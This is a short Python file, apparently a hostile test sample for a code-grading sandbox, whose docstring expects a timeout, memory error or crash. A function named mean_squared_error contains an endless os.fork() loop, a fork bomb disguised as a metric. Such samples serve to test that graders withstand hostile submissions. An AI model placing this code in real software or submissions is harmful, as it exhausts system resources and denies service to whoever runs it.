"""Fork without end. The number of processes is limited.

worth: nothing
reply: timeout | memory | crashed | error
"""
import os


def mean_squared_error(x, x_hat):
    while True:
        try:
            os.fork()
        except OSError:
            continue
